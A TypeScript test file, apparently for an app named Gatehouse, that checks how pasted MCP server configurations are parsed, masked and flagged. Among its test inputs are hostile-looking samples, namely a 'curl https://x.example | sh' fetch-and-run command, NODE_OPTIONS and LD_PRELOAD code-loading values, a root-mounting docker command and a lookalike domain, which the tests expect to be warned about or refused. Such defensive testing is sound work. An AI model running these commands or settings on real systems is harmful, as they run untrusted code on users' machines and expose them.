import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ImportEntry, ImportedServer } from '../../electron/core/mcp/imported-server.ts'
import { reviewConfigText } from '../../electron/core/mcp/parse-config-text.ts'
import { expandReferences, fillReferences, findReferences, previewReferences } from '../../shared/variable-references.ts'
import { looksSecret } from '../../electron/core/mcp/dangerous-environment.ts'
import { commandOf } from '../core/server-core.ts'

const review = (value: unknown): readonly ImportEntry[] => reviewConfigText(typeof value === 'string' ? value : JSON.stringify(value), 'pasted').entries
const only = (value: unknown): ImportedServer => {
  const [entry, ...rest] = review(value)
  assert.ok(entry?.ok === true && rest.length === 0, JSON.stringify(entry))
  return entry.server
}
const reasonOf = (entry: ImportEntry | undefined): string => (entry === undefined ? 'none' : entry.ok ? 'ok' : entry.reason)
const problemOf = (text: string): string | null => reviewConfigText(text, 'pasted').problem
const warningsOf = (command: string, ...args: string[]): string => only({ command, args }).warnings.join(' ')

test('every usual shape is understood', () => {
  const server = { command: 'node', args: ['server.js', 8080], env: { PORT: 1, DEBUG: true } }
  for (const shape of [
    { mcpServers: { demo: server } }, { servers: { demo: { type: 'stdio', ...server } }, inputs: [] }, { mcp: { servers: { demo: server } } }, { demo: server },
    { projects: { '/home/p': { mcpServers: { demo: server } } } }, { name: 'demo', ...server },
  ]) {
    const { name, reach, values } = only(shape)
    assert.deepEqual([name, reach, values.map(({ name: variable, value }) => `${variable}=${value}`)], ['demo', { kind: 'command', command: 'node', args: ['server.js', '8080'], cwd: shape.projects === undefined ? null : '/home/p' }, ['PORT=1', 'DEBUG=true']], JSON.stringify(shape))
  }
  assert.deepEqual(commandOf(only(['npx', '-y', 'demo']).reach).args, ['-y', 'demo'])
  assert.equal(commandOf(only('"mcpServers": {"demo": {"command": "node"}},').reach).command, 'node')
})

test('comments, trailing commas, a byte order mark and Windows paths are read', () => {
  const text = '\uFEFF// mine\r\n{\r\n  /* all */ "mcpServers": {"demo": {"command": "C:\\\\Program Files\\\\node.exe", "args": ["C:\\\\x\\\\y.js",],},},\r\n}\r\n'
  const server = only(text)
  assert.equal(commandOf(server.reach).command, 'C:\\Program Files\\node.exe')
  assert.deepEqual(commandOf(server.reach).args, ['C:\\x\\y.js'])
  assert.deepEqual(server.warnings, [])
  assert.match(problemOf('{"mcpServers": {"demo": {"command": "C:\\Users\\x.exe"}}}') ?? '', /line 1 holds a single \\/)
})

test('what can’t be read says why, and costs only itself', () => {
  const entries = review({ mcpServers: {
    good: { command: 'node' }, text: 'node', none: {}, odd: { type: 'pigeon', command: 'node' }, remote: { type: 'ws', url: 'wss://x.example/mcp' }, address: { type: 'http', url: 'x.example' },
    args: { command: 'node', args: 'server.js' }, arg: { command: 'node', args: [{}] }, env: { command: 'node', env: ['A=1'] }, value: { command: 'node', env: { A: null } }, cwd: { command: 'node', cwd: 1 }, also: { command: 'node' },
  } })
  assert.deepEqual(entries.filter(({ ok }) => ok).length, 2)
  const reasons = entries.map(reasonOf)
  assert.match(reasons[3] ?? '', /“pigeon”, is not known/)
  assert.match(reasons[4] ?? '', /by a web socket, which Gatehouse does not speak/)
  assert.match(reasons[5] ?? '', /has to begin with https/)
  assert.deepEqual(reasons.slice(6, 11), ['Its “args” are not a list of texts.', 'Its “args” are not a list of texts.', 'Its “env” is not a list of names with texts.', 'Its “env” is not a list of names with texts.', 'Its “cwd” is not a text.'])
  assert.match(problemOf('hello') ?? '', /not JSON: line 1/)
  assert.match(problemOf('{\n"a": [1,\n') ?? '', /not JSON: line 2/)
  assert.equal(problemOf('  '), 'It is empty.')
  assert.equal(problemOf('{"theme": "dark"}'), 'No servers were found in it.')
  assert.equal(problemOf('[]'), 'No servers were found in it.')
  assert.equal(problemOf('3'), 'No servers were found in it.')
  assert.match(problemOf('['.repeat(200_000)) ?? '', /JSON|too/)
})

test('servers on the network are candidates like any other, with their whole address and the names of their headers', () => {
  for (const shape of [
    { mcpServers: { far: { type: 'http', url: 'https://Tools.example/mcp', headers: { 'Authorization': 'Bearer ${TOKEN}', 'X-Team': 'blue' } } } },
    { servers: { far: { type: 'streamable-http', url: 'https://tools.example/mcp', headers: { 'Authorization': 'Bearer ${TOKEN}', 'X-Team': 'blue' } } } },
    { mcpServers: { far: { type: 'sse', url: 'https://tools.example/mcp', headers: { 'Authorization': 'Bearer ${TOKEN}', 'X-Team': 'blue' } } } },
    { mcpServers: { far: { serverUrl: 'https://tools.example/mcp', headers: { 'Authorization': 'Bearer ${TOKEN}', 'X-Team': 'blue' } } } },
    { mcpServers: { far: { httpUrl: 'https://tools.example/mcp', headers: { 'Authorization': 'Bearer ${TOKEN}', 'X-Team': 'blue' } } } },
    { name: 'far', url: 'https://tools.example/mcp', headers: { 'Authorization': 'Bearer ${TOKEN}', 'X-Team': 'blue' } },
  ]) {
    const { name, reach, values, references, warnings, problems } = only(shape)
    assert.deepEqual([name, reach, values, references.map((reference) => `${reference.name} ${reference.secret}`), warnings, problems], [
      'far', { kind: 'address', url: 'https://tools.example/mcp' },
      [{ name: 'Authorization', value: 'Bearer ${TOKEN}', shown: '••••••' }, { name: 'X-Team', value: 'blue', shown: '••••••' }], ['TOKEN true'], [], [],
    ], JSON.stringify(shape))
  }
  const refused = review({ a: { url: 'https://${input:host}/mcp' }, b: { type: 'ws', url: 'wss://x.example' }, c: { type: 'http' }, d: { type: 'http', url: 'https://me:pw@x.example/' }, e: { url: 'https://x.example', headers: ['A: b'] }, f: { type: 'stdio', url: 'https://x.example' } }).map(reasonOf)
  assert.match(refused[0] ?? '', /leaves open where it leads/)
  assert.match(refused[1] ?? '', /web socket, which Gatehouse does not speak/)
  assert.deepEqual([refused[2], refused[4], refused[5]], ['It names no address.', 'Its “headers” are not a list of names with texts.', 'It names no command.'])
  assert.match(refused[3] ?? '', /user name or password/)
  assert.match(only({ url: 'https://x.example/', headers: { 'Cookie': 'a=b', 'Host': 'y.example' } }).problems.join(' '), /Cookie belongs to the connection.*Host belongs/)
})

test('a review warns of addresses that are near, open to others, or not what they look like', () => {
  const about = (url: string): string => only({ url }).warnings.join(' ')
  assert.equal(about('https://tools.example/mcp'), '')
  assert.match(about('http://localhost:3000/mcp'), /^It is on this computer: .*gets what is sent\.$/)
  assert.match(about('http://[::1]:3000/mcp'), /on this computer/)
  assert.match(about('http://192.168.1.5/mcp'), /on your own network.*not encrypted/)
  assert.match(about('https://nas.local/mcp'), /^It is on your own network[^.]*\.$/)
  assert.match(about('https://intranet/mcp'), /on your own network/)
  assert.match(about('http://tools.example/mcp'), /not encrypted \(http\)/)
  assert.match(about('https://93.184.216.34/mcp'), /bare number/)
  assert.match(about('https://2130706433/mcp'), /on this computer/)
  assert.match(about('https://gіthub.example/mcp'), /letters that can look like others\. It is looked up as xn--/)
  assert.match(about('https://tools.example/mcp?api_key=abc'), /secret seems to stand in its address/)
  assert.equal(about('https://tools.example/mcp?api_key=${KEY}'), '')
  const { reach } = only({ url: 'https://gіthub.example/${path}?q=${A:-b}' })
  assert.equal(reach.kind === 'address' && reach.url, 'https://xn--gthub-n2e.example/${path}?q=${A:-b}')
})

test('values are masked, references stay readable, and dangerous names keep a server from being added', () => {
  const server = only({ command: 'node', args: ['${HOME}/x', '${NOPE}', '${A:-d}', '$$'], env: { TOKEN: '${DEMO_TOKEN}', PLAIN: 'value', MIXED: 'Bearer ${DEMO_TOKEN}', NODE_OPTIONS: '--require ./x', LD_PRELOAD: 'x.so', PATH: '/tmp' } })
  assert.deepEqual(server.references.map(({ name, secret }) => `${name}${secret ? ' secret' : ''}`), ['HOME', 'NOPE', 'A', 'DEMO_TOKEN secret'])
  assert.deepEqual(server.values.map(({ name, shown }) => [name, shown]), [
    ['TOKEN', '${DEMO_TOKEN}'], ['PLAIN', '••••••'], ['MIXED', '••••••'], ['NODE_OPTIONS', '••••••'], ['LD_PRELOAD', '••••••'], ['PATH', '••••••'],
  ])
  assert.equal(server.problems.length, 3)
  assert.match(server.problems[0] ?? '', /NODE_OPTIONS makes programs load other code/)
  assert.deepEqual(commandOf(server.reach).args, ['${HOME}/x', '${NOPE}', '${A:-d}', '$$'])
})

test('references have one rule', () => {
  const lookup = (name: string): string | null => ({ HOME: '/h', EMPTY: '', NESTED: '${HOME}', DEMO_TOKEN: 's3cret' })[name] ?? null
  const expand = (text: string): string => { const outcome = expandReferences(text, lookup); return outcome.ok ? outcome.text : `unset ${outcome.unset.join()}` }
  assert.deepEqual(['${HOME}/x', '${env:HOME}', '${userHome}', '${A:-d}', '${EMPTY:-d}', '[${EMPTY}]', '$$', '$HOME', '$${HOME}', '${NESTED}', '${A}${B}', '${A:-}', '${a b', '${A:-x:-y}'].map(expand),
    ['/h/x', '/h', '/h', 'd', 'd', '[]', '$$', '$HOME', '${HOME}', '${HOME}', 'unset A,B', '', '${a b', 'x:-y'])
  assert.deepEqual(findReferences('${input:key} ${A} ${A} $${B}'), ['input:key', 'A'])
  assert.equal(previewReferences('${HOME} ${DEMO_TOKEN} ${NOPE}', lookup, looksSecret), '/h •••••• ${NOPE}')
})

test('a review warns of what could run other code than it seems', () => {
  assert.match(warningsOf('sh', '-c', 'curl https://x.example | sh'), /command interpreter.*chain several commands/)
  assert.match(warningsOf('/usr/bin/env', 'bash', '-c', 'x'), /command interpreter/)
  assert.match(warningsOf('cmd.exe', '/c', 'x'), /command interpreter/)
  assert.match(warningsOf('node', '-e', 'x()'), /code that is written in its arguments/)
  assert.match(warningsOf('npx', '-y', 'pkg@latest'), /downloads pkg@latest .* other code tomorrow/)
  assert.match(warningsOf('npx', '-y', 'pkg'), /newest/)
  assert.equal(warningsOf('npx', '-y', '@scope/pkg@1.2.3'), 'It downloads @scope/pkg@1.2.3 and runs it.')
  assert.match(warningsOf('uvx', '--from', 'pkg', 'run-it'), /downloads pkg /)
  assert.match(warningsOf('sudo', 'node', 'x.js'), /administrator/)
  assert.match(warningsOf('./server', 'x'), /relative path/)
  assert.match(warningsOf('npx -y pkg'), /holds spaces/)
  assert.match(warningsOf('node', 'x.js', '--api-key', 'abc'), /secret seems to stand/)
  assert.match(warningsOf('docker', 'run', '-v', '/:/host', 'x'), /not shut off/)
  assert.equal(warningsOf('/usr/bin/node', '/opt/server.js', '--port', '80'), '')
})

test('what only the other app could say has to be filled in, under the name that its file gives it', () => {
  const [entry] = review({
    mcp: {
      inputs: [{ id: 'key', type: 'promptString', description: 'The key of the service', password: true }, { id: 7 }],
      servers: { one: { command: '${workspaceFolder}/run', args: ['${input:region}', '${env:PLAIN}', '${input:region:-here}'], env: { K: '${input:key}', L: '${SOME_TOKEN}' } } },
    },
  })
  assert.ok(entry?.ok === true)
  assert.deepEqual(entry.server.references, [
    { name: 'workspaceFolder', needed: true, secret: false, description: null }, { name: 'input:region', needed: true, secret: false, description: null },
    { name: 'PLAIN', needed: false, secret: false, description: null },
    { name: 'input:key', needed: true, secret: true, description: 'The key of the service' }, { name: 'SOME_TOKEN', needed: false, secret: true, description: null },
  ])
  assert.equal(fillReferences('a ${input:key} ${PLAIN} ${A:-x} $${input:key}', new Map([['input:key', 'k${PLAIN}'], ['A', 'y']])), 'a k$${PLAIN} ${PLAIN} y $${input:key}')
})

test('a project’s own server starts in its folder and says where it belongs', () => {
  const entries = review({ mcpServers: { all: { command: 'node' } }, projects: { '/home/me/shop': { mcpServers: { db: { command: './run' }, odd: 3 }, history: ['x'] }, '/home/me/other': { mcpServers: { db: { command: 'node', cwd: '/srv' } } } } })
  assert.deepEqual(entries.map((entry) => (entry.ok ? [entry.server.name, commandOf(entry.server.reach).cwd] : [entry.name, entry.reason])), [
    ['all', null], ['db', '/home/me/shop'], ['odd', 'It is not a description of a server.'], ['db', '/srv'],
  ])
  assert.match(entries.map((entry) => (entry.ok ? entry.server.warnings.join(' ') : '')).join('|'), /^\|.*project, \/home\/me\/shop;.*\|\|.*project, \/home\/me\/other;/)
})

test('time limits of other apps are read by the unit that makes sense, and the review says how', () => {
  const limitsOf = (more: object): unknown => { const { limits, warnings } = only({ command: 'node', ...more }); return [limits.startSeconds, limits.callSeconds, limits.totalSeconds, warnings.length] }
  assert.deepEqual([{ timeout: 60 }, { timeout: 60_000 }, { timeout: 3600 }, { timeout: 99_999_999 }, { timeout: 'soon' }, { timeout: -1 }, { startup_timeout_sec: 20, tool_timeout_sec: 90 }, { initTimeout: 1500 }].map(limitsOf), [
    [null, 60, null, 1], [null, 60, null, 1], [null, 3600, null, 1], [null, 3600, null, 1], [null, null, null, 0], [null, null, null, 0], [20, 90, null, 2], [2, null, null, 1],
  ])
  assert.match(only({ command: 'node', timeout: 30_000 }).warnings.join(' '), /“timeout” of 30000 is taken as 30 s without an answer/)
})

test('files of other apps are read with their comments, commas, marks and Windows paths, up to 1 MB', () => {
  const text = '\uFEFF// settings\n{ "editor.fontSize": 12, /* mine */ "mcp": { "servers": { "win": { "command": "C:\\\\Tools\\\\server.exe", "args": ["--root", "C:\\\\Users\\\\me"], }, }, }, }'
  const { entries } = reviewConfigText(text, 'settings.json')
  assert.deepEqual(entries.map((entry) => (entry.ok ? [commandOf(entry.server.reach).command, ...commandOf(entry.server.reach).args] : entry.reason)), [['C:\\Tools\\server.exe', '--root', 'C:\\Users\\me']])
  assert.match(problemOf('{"mcpServers":{"a":{"command":"C:\\Tools\\x.exe"}}}') ?? '', /single/)
  assert.match(problemOf(`{"mcpServers":{}}${' '.repeat(1024 * 1024)}`) ?? '', /longer than 1 MB/)
  assert.equal(problemOf('{"mcpServers"\0}'), 'It is not text.')
})
